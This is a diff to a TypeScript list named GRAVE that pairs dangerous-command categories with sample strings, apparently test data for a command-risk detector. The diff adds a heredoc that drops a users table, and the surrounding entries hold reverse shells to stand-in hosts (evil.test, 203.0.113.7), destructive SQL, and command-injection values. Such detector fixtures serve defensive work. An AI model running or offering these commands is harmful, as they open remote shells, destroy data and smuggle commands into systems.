@@ -455,7 +455,12 @@ const GRAVE: readonly [kind: string, ...commands: string[]][] = [
     'shell.reverse_shell',
     `node -e "const n=require('net').connect(4444,'evil.test');const s=require('child_process').spawn('sh');n.pipe(s.stdin);s.stdout.pipe(n)"`,
   ],
-  ['sql.destructive', "psql -c 'drop table users'", "mysql -e 'drop database shop'"],
+  [
+    'sql.destructive',
+    "psql -c 'drop table users'",
+    "mysql -e 'drop database shop'",
+    "psql shop <<'EOF'\n\\set ON_ERROR_STOP on\nDO $$ BEGIN DROP TABLE users; END $$;\nEOF",
+  ],
   ['sql.unbounded', "psql -c 'delete from users'"],
   ['shell.reverse_shell', 'd=/dev; (sh) 0>$d/tcp/203.0.113.7/443', '{ bash -i; } >& /dev/tcp/203.0.113.7/443 0>&1'],
   ['command_injection.separator', '10.0.0.7; cat notes', 'www.acme.com | sort', `1;nslookup\${IFS}a.test;#\${IFS}'`],
